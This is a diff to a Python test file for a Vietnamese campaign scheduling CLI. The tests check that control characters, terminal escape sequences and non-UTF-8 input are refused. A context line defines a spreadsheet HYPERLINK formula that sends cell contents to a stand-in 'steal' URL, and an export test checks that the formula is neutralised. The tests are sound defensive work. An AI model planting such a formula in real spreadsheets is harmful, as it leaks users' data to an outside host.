@@ -4,8 +4,13 @@ database URLs with passwords, and input faults reported as input faults (one lin
 from __future__ import annotations
 
 import datetime as dt
+import subprocess
+import sys
+from pathlib import Path
 
 from conftest import campaign_toml, future_day
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 FORMULA = '=HYPERLINK("http://example.invalid/steal?"&A1, "Bấm vào đây")'
@@ -41,3 +46,85 @@ def test_log_export_xlsx_and_csv_still_neutralise_formulas(project):
     assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
     project.ok("log", "export", "--format", "csv", "-o", str(project.root / "log.csv"))
     assert "'" + FORMULA.replace('"', '""') in (project.root / "log.csv").read_text(encoding="utf-8-sig")
+
+
+# --- item 10: control characters are refused where text comes in ---------------------------------------------
+
+CONTROLS = st.one_of(st.characters(min_codepoint=0, max_codepoint=0x1F, exclude_characters="\t\n"),
+                     st.characters(min_codepoint=0x7F, max_codepoint=0x9F))
+FIXTURE_REUSE = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+
+
+def _one_line_naming(project, args, field: str) -> str:
+    before = project.counts()
+    line = project.fails(*args)
+    assert field in line and "control character U+" in line, line
+    assert project.counts() == before  # nothing written
+    return line
+
+
+@FIXTURE_REUSE
+@given(char=CONTROLS, text=st.text(alphabet=st.characters(categories=["L", "N", "Zs"]), max_size=10))
+def test_cli_text_with_a_control_character_is_refused(project, char, text):
+    project.write("c.toml", campaign_toml("tuan-le", posts=0))
+    if not project.json("campaign", "list")["campaigns"]:
+        project.ok("campaign", "import", str(project.root / "c.toml"))
+    at = f"{future_day():%d/%m/%Y} 09:00"
+    title = f"Khai mạc{text}{char}[31m"
+    line = _one_line_naming(project, ["post", "add", "--campaign", "tuan-le", "--at", at, "--title", title,
+                                      "--body", "Nội dung"], "--title")
+    assert char not in line  # the character itself never reaches the terminal
+    _one_line_naming(project, ["post", "add", "--campaign", "tuan-le", "--at", at, "--title", "Tiêu đề",
+                               f"--body=Nội dung{char}"], "--body")
+    _one_line_naming(project, ["log", "add", "--campaign", "tuan-le", "--kind", "note", "--title", "Ghi chú",
+                               "--place", f"Cần Thơ{char}"], "--place")
+
+
+def test_tab_and_newline_are_text(project):
+    project.ok("campaign", "import", str(project.write("c.toml", campaign_toml("tuan-le", posts=0))))
+    project.ok("post", "add", "--campaign", "tuan-le", "--at", f"{future_day():%d/%m/%Y} 09:00", "--title",
+               "Tiêu\tđề", "--body", "Dòng một\n\nDòng hai")
+    assert project.sql("SELECT title, body FROM posts") == [("Tiêu\tđề", "Dòng một\n\nDòng hai")]
+
+
+@FIXTURE_REUSE
+@given(char=CONTROLS, field=st.sampled_from(["title", "body", "name", "plan_ref", "hashtags", "headline"]))
+def test_campaign_file_with_a_control_character_is_refused(project, char, field):
+    escaped = f"\\u{ord(char):04X}"  # TOML's own escape: the file itself is valid TOML
+    text = campaign_toml("tuan-le", posts=2, post_lines='banner = { headline = "Tiêu đề" }')
+    replacements = {"title": ('title = "Bài số 2"', f'title = "Bài số 2{escaped}"', "posts[2].title"),
+                    "body": ('body = "Nội dung bài số 1."', f'body = "Nội{escaped} dung"', "posts[1].body"),
+                    "name": ('name = "Tuần', f'name = "{escaped}Tuần', "campaign.name"),
+                    "plan_ref": ("[campaign]\n", f'[campaign]\nplan_ref = "KH {escaped}"\n', "campaign.plan_ref"),
+                    "hashtags": ('"#HocTapSuotDoi"', f'"#Hoc{escaped}"', "campaign.hashtags[1]"),
+                    "headline": ('headline = "Tiêu đề" }', f'headline = "Tiêu đề{escaped}" }}', "posts[1].banner")}
+    old, new, name = replacements[field]
+    path = project.write("c.toml", text.replace(old, new, 1))
+    line = _one_line_naming(project, ["campaign", "import", str(path)], name)
+    assert f"{path}:" in line
+
+
+def test_config_with_a_control_character_is_refused(project):
+    text = project.config.read_text(encoding="utf-8")
+    assert '\nagency = "' in text
+    project.config.write_text(text.replace('\nagency = "', '\nagency = "\\u001b[2J', 1), encoding="utf-8")
+    line = project.fails("campaign", "list")
+    assert "organization.agency" in line and "U+001B" in line and "config.toml:" in line
+
+
+def test_arguments_that_are_not_utf8_are_refused(project):
+    project.ok("campaign", "import", str(project.write("c.toml", campaign_toml("tuan-le", posts=0))))
+    # Python hands bytes that are not UTF-8 over as lone surrogates (b"\xff" -> "\udcff")
+    line = project.fails("post", "add", "--campaign", "tuan-le", "--at", f"{future_day():%d/%m/%Y} 09:00",
+                         "--title", "Ti\udcffêu", "--body", "x")
+    assert "--title" in line and "UTF-8" in line
+    line = project.fails("campaign", "show", "tu\udcff")
+    assert "argument 5" in line  # loa --config PATH campaign show VALUE
+
+
+def test_arguments_that_are_not_utf8_are_refused_in_a_real_process(project):
+    loa = Path(sys.executable).parent / "loa"
+    result = subprocess.run([loa, "--config", project.config, "log", "add", "--campaign", b"tu\xffan",
+                             "--kind", "note", "--title", "x"], capture_output=True, cwd=project.root, timeout=120)
+    assert result.returncode == 2, result.stderr
+    assert result.stderr.decode().strip().splitlines() == ["error: --campaign: is not valid UTF-8 text"]
